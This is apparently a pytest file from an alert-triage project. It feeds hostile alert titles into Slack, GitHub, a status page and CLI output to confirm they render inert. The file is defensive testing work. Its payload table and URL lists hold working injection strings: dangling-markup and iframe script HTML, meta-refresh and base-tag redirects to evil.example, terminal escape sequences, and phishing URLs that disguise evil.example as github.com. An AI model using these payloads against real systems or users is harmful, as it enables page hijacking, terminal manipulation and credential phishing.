"""Round 5 of hostile alert text on every surface (helper 504): one more table of payloads, each
a class of attack the earlier tables (`test_escape_every_surface.PAYLOADS`,
`test_surfaces_round4_485.PAYLOADS`) lack, put in every field an alert and its ticket have and
shown through the real sinks and servers (Slack, GitHub, the status page, the operator
commands), checked by the earlier files' rules for each surface.

Beside the table, what it found, each fixed:

- a title ending in `www` was a link on GitHub in the resolve and re-fire comments, which write
  `. Closing.` after it: GitHub links `www.` followed by a space to `http://www` (cmark-gfm's
  extended autolink), and the zero-width space that keeps `www.` from linking was put only
  where the alert's own text held the dot (`markdown._unlinked`);
- a URL whose user info held a quote, a bracket or a backtick (`https://github.com:'x@evil.
  example/`) reached the terminal (and the fallback ticket's text) as the alert wrote it: the
  URL in prose ended at that character, before the `@`, though a browser opens evil.example
  and GNOME Terminal links all of it (`display.urls_as_opened`: its user info goes, whatever
  it holds but a quote closing a JSON string, so compact JSON is no user info);
- a user info that reads as a host in a URL of another scheme terminals link
  (`ssh://github.com@evil.example/`), or of `https://` found inside a word (`xhttps://`),
  was left as written (`display.urls_as_opened`: it goes; `ssh://git@…` stays)."""

from __future__ import annotations

import asyncio
import re
from pathlib import Path

import pytest

from browser import chromium_or_skip
from factories import alert
from github_stub import GitHubServer
from ingest_harness import loopback_client
from test_escape_every_surface import (
    BOT_TOKEN,
    REPO,
    _seed,
    _seed_configured,
    assert_html_inert,
    assert_labels_taken,
    assert_markdown_inert,
    assert_slack_inert,
    assert_title_inert,
    effect,
    github,
    hook,
    store,
)
from test_operator_hostile import BEARER, NOW, serving
from test_slack_sink import Hook
from test_slack_sink import open_sink as open_slack
from test_surfaces_round4_485 import _titles_in_chromium
from triage.cli import main
from triage.display import urls_as_opened, visible
from triage.incidents.sqlite import SQLiteStore
from triage.models import EffectKind
from triage.ops.operator import incident_json
from triage.ops.operator_text import incident_block, incident_line
from triage.redact import Redactor
from triage.settings import Settings
from triage.sinks import markdown
from triage.sinks.github import GitHubSink
from triage.sinks.github.text import close_comment, reopen_comment

__all__ = ["github", "hook", "store"]

#: Hostile alert text, one class of attack each, none of it in the earlier tables.
PAYLOADS: dict[str, str] = {
    # HTML a browser would read past its end: an attribute left open swallows the page after
    # it into a URL (dangling markup), and elements that navigate, frame or re-base the page.
    "dangling_markup": "<img src='https://evil.example/?leak= <iframe srcdoc=\"<script>"
    "window.__ran=true</script>\"> <meta http-equiv=refresh content='0;url=https://evil.example'>"
    " <base href=https://evil.example/> <form action=https://evil.example/><button>go",
    # Terminal strings beyond CSI and OSC: DCS (sixel), APC (kitty graphics), PM, SOS, a
    # report request (the terminal types its answer), a window title, DEC's screen test.
    "terminal_strings": "\x1bPq#0;2;0;0;0#0~~\x1b\\ \x1b_Gf=100,a=T;AAAA\x1b\\ \x1b^pm\x1b\\"
    " \x1bXsos\x1b\\ \x1b[6n \x1b[21t \x1b]0;root@prod\x07 \x1b#8 \x1bc",
    # GitHub's rendered blocks: diagrams and maps that fetch, media, alerts, footnotes.
    "github_blocks": "```mermaid\ngraph TD; A-->B\n```\n```geojson\n{}\n```\n"
    "<picture><source srcset=https://evil.example/x.png></picture>"
    "<video src=https://evil.example/v.mp4>\n> [!WARNING]\n> x\n[^1]\n\n[^1]: note",
    # Markup in look-alike brackets (full-width, small form variants) and emoji codes.
    "look_alike_brackets": "\uff1cscript\uff1ewindow.__ran=true\uff1c/script\uff1e "
    "\ufe64b\ufe65 :skull_and_crossbones: :white_check_mark: Resolved",
}

payloads = pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))


@payloads
async def test_slack_posts_are_inert(hook: Hook, payload: str) -> None:
    """A new incident's message and its follow-ups hold nothing of the alert's Slack acts on."""
    async with open_slack(hook.url()) as sink:
        assert (await sink.apply(effect(payload))).ref == "posted"
        await sink.apply(effect(payload, EffectKind.REOPEN, ref="posted"))
        await sink.apply(effect(payload, EffectKind.CLOSE, ref="posted"))
    for message in hook.bodies():
        assert_slack_inert(message)


@payloads
async def test_github_issues_are_inert(github: GitHubServer, payload: str) -> None:
    """The issue (title, body, labels) and its comments (re-fire, resolve) are inert GitHub
    Markdown."""
    settings = Settings(github_api_url=github.url, github_repository=REPO, github_token=BOT_TOKEN)
    sink = GitHubSink(settings)
    try:
        ref = (await sink.apply(effect(payload))).ref
        assert ref is not None
        await sink.apply(effect(payload, EffectKind.CLOSE, ref=ref))
        await sink.apply(effect(payload, EffectKind.REOPEN, ref=ref))
    finally:
        await sink.aclose()
    [issue] = github.issues(REPO)
    assert_title_inert(issue["title"])
    assert_markdown_inert(issue["body"])
    assert_labels_taken([label["name"] for label in issue["labels"]])
    assert len(issue["comment_bodies"]) >= 2
    for comment in issue["comment_bodies"]:
        assert_markdown_inert(comment)


@payloads
async def test_the_status_page_is_inert(store: SQLiteStore, payload: str) -> None:
    """The status page and the incident's page hold only triage's markup."""
    fingerprint = await _seed(store, payload)
    async with serving(store) as server, loopback_client(server.port) as http:
        pages = [
            await http.get("/", headers=BEARER),
            await http.get(f"/incidents/{fingerprint}", headers=BEARER),
        ]
    for page in pages:
        assert page.status_code == 200
        assert_html_inert(page.text)


@payloads
def test_operator_commands_print_only_printable_lines(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    payload: str,
) -> None:
    """`incidents list|show` (JSON and text) and `silence list` write only printable lines:
    no ESC of a terminal string reaches the terminal."""
    monkeypatch.setenv("TRIAGE_STORE_URL", f"sqlite:///{tmp_path / 'triage.db'}")
    monkeypatch.setenv("TRIAGE_LOG_LEVEL", "warning")
    fingerprint = asyncio.run(_seed_configured(payload))
    commands = [
        ["incidents", "list", "--state", "all"],
        ["incidents", "list", "--state", "all", "--output", "text"],
        ["incidents", "show", fingerprint],
        ["incidents", "show", fingerprint, "--output", "text"],
        ["silence", "list"],
    ]
    for args in commands:
        assert main(args) == 0, args
        out, err = capsys.readouterr()
        assert out.strip(), args
        for line in (out + err).splitlines():
            assert line.isprintable(), (args, line[:200])


# --- GitHub: triage's own punctuation after alert text -------------------------------------

#: `www.` as GitHub links it: a word `www` right before a dot (cmark-gfm's extended autolink
#: takes `www.` followed by a space or a closing bracket as a link to `http://www`).
_WWW_DOT = re.compile(r"(?<![A-Za-z0-9])www\.")


@pytest.mark.parametrize("title", ["mirror down at www", "WWW", "see www", "x (www"])
def test_a_title_ending_in_www_is_no_link_in_the_resolve_and_refire_comments(title: str) -> None:
    """A title ending in `www` is followed by triage's `. Closing.` (`. Reopening.`) in the
    resolve and re-fire comments: `www` and that dot would be a link to `http://www`, so the
    zero-width space goes after the alert's `www` (`inline`), as it does before its own dot."""
    for comment in (
        close_comment(effect(title, EffectKind.CLOSE, ref="1")),
        reopen_comment(effect(title, EffectKind.REOPEN, ref="1")),
    ):
        assert _WWW_DOT.search(comment.replace("&#8203;", "\u200b")) is None, comment
        assert "www&#8203;" in comment.lower(), comment


@pytest.mark.parametrize("text", ["www", "at www", "www www"])
def test_inline_text_ending_in_www_links_nothing_whatever_follows(text: str) -> None:
    """`inline` text ending in `www` links nothing however triage goes on after it (a dot, a
    bracket): the zero-width space stands after every `www` word, at its end too."""
    shown = markdown.inline(text)
    for after in (". Closing.", ".)", "."):
        assert _WWW_DOT.search((shown + after).replace("&#8203;", "\u200b")) is None, shown


@pytest.mark.parametrize("text", ["www2 is fine", "awww.", "the www-data user", "swwwx"])
def test_a_www_that_is_no_autolink_is_left_as_written(text: str) -> None:
    """A `www` inside a longer word (`awww`, `www2`, `www-data`) is written as it is: no
    zero-width space where GitHub would link nothing (ordinary text is never over-escaped)."""
    assert "&#8203;" not in markdown.inline(text)


# --- the terminal: user info behind a character a URL in prose ends at ---------------------

#: URLs whose user info holds a character a URL in prose ends at (a quote, a bracket, a
#: backtick): a browser opens evil.example (the host follows the last `@` before the first
#: `/`, `?` or `#`), and GNOME Terminal (VTE) links the whole of `user:password@host` with a
#: quote in the password, so each reads as GitHub on an operator's screen.
_HIDDEN_USER_INFO = [
    "https://github.com:x'y@evil.example/session",
    'https://github.com:"@evil.example/session',
    "https://github.com:`@evil.example/session",
    "https://github.com:(x)@evil.example/session",
    "https://github.com:[x]@evil.example/session",
    "https://github.com:<x>@evil.example/session",
    "https://github.com:a,b'c@evil.example/session",
]


@pytest.mark.parametrize("url", _HIDDEN_USER_INFO)
async def test_the_terminal_writes_a_url_whose_user_info_ends_prose_as_it_opens(
    store: SQLiteStore, url: str
) -> None:
    """`incidents list|show --output text` write a URL in a title as it opens even when its
    user info holds a quote or a bracket (where a URL in prose would end): the line shows
    `https://evil.example/session`, never `github.com` ahead of the host it opens."""
    source = alert("hidden-user").model_copy(update={"title": f"log in at {url} now"})
    opened = await store.begin(source, "m", NOW)
    assert opened.after is not None
    [incident] = await store.incidents()
    listed = incident_line(incident_json(incident, Redactor()), incident.opened_at, NOW)
    shown = incident_block(incident_json(incident, Redactor(), history=True), NOW)
    for text in (listed, shown.split("\n", 1)[0]):
        assert "log in at https://evil.example/session now" in text, text
        assert "github.com" not in text, text


@pytest.mark.parametrize("url", _HIDDEN_USER_INFO)
def test_urls_as_opened_leaves_out_user_info_however_it_is_spelled(url: str) -> None:
    """`urls_as_opened` (the terminal's, the fallback ticket's and the model's) writes a URL
    without its user info whatever characters the user info holds, as a browser opens it."""
    assert urls_as_opened(f"see {url}.") == "see https://evil.example/session."


@pytest.mark.parametrize(
    "text",
    [
        "'https://grafana.example.com/d/x' and (https://example.com) or <https://a.example/>",
        "mail me@example.com at https://example.com/u/me@example.com?to=a@b#c@d",
        '{"url":"https://api.example.com:8443","user":"ops@example.com"}',
        '["https://a.example.com","b@example.com"]',
        "{'url':'https://api.example.com:8443','user':'ops@example.com'}",
    ],
)
def test_urls_without_user_info_are_left_as_written(text: str) -> None:
    """A URL quoted or bracketed in prose, with an `@` in its path, query or fragment, or in
    compact JSON before a later value's `@`, has no user info: it is left as written."""
    assert urls_as_opened(text) == text


# --- the status page in a real browser ------------------------------------------------------


async def test_a_browser_shows_each_title_as_written_and_runs_navigates_or_fetches_nothing(
    store: SQLiteStore, tmp_path: Path
) -> None:
    """Chromium, given each incident's page of this table (dangling markup, a meta refresh, a
    base and a form, an iframe's srcdoc, look-alike brackets), shows the title as the API has
    it (its visible characters, spaces collapsed as HTML shows them): no script of the
    alert's ran, no element of its was made, nothing was fetched, and the page stayed where it
    was (`_titles_in_chromium` waits for the incident's own address)."""
    executable = chromium_or_skip()
    fingerprints = {}
    for name, text in PAYLOADS.items():
        opened = await store.begin(alert(name).model_copy(update={"title": text}), "m", NOW)
        assert opened.after is not None
        fingerprints[name] = opened.after.fingerprint
    async with serving(store) as server, loopback_client(server.port) as http:
        titles = {
            name: (await http.get(f"/api/v1/incidents/{fp}", headers=BEARER)).json()["title"]
            for name, fp in fingerprints.items()
        }
        base = f"http://127.0.0.1:{server.port}/incidents/"
        pages = {name: base + fp for name, fp in fingerprints.items()}
        seen = await asyncio.to_thread(_titles_in_chromium, executable, tmp_path, pages)
    for name, (title, elements, fetched, ran) in seen.items():
        assert title == " ".join(visible(titles[name]).split()), name
        assert (elements, fetched, ran) == (0, 0, False), name


@pytest.mark.parametrize(
    ("text", "opened"),
    [
        ("ssh://github.com@evil.example/x", "ssh://evil.example/x"),
        ("git://github.com:'x@evil.example/r", "git://evil.example/r"),
        ("sftp://github.com@evil.example/", "sftp://evil.example/"),
        ("xhttps://github.com@evil.example/x", "xhttps://evil.example/x"),
        ("_https://github.com@evil.example/x", "_https://evil.example/x"),
    ],
)
def test_a_user_info_that_reads_as_a_host_goes_from_any_url_a_terminal_links(
    text: str, opened: str
) -> None:
    """Terminals link URLs of more schemes than http (ssh, git, sftp) and find `https://`
    inside a word (`xhttps://`): a user info that reads as a host (`github.com@`) goes from
    each, so none reads as GitHub while it opens evil.example."""
    assert urls_as_opened(f"see {text} now") == f"see {opened} now"


@pytest.mark.parametrize(
    "text",
    [
        "ssh://git@github.com/acme/ops.git",
        "postgres://app:[REDACTED:password]@db.internal:5432/orders",
        "redis://default@cache:6379",
    ],
)
def test_a_user_name_of_another_scheme_is_kept(text: str) -> None:
    """A user name that reads as no host (`git@`, `app:…@`) in a URL of another scheme than
    http(s) or ftp is the alert's diagnosis (which user failed): it is left as written."""
    assert urls_as_opened(f"failed: {text}") == f"failed: {text}"
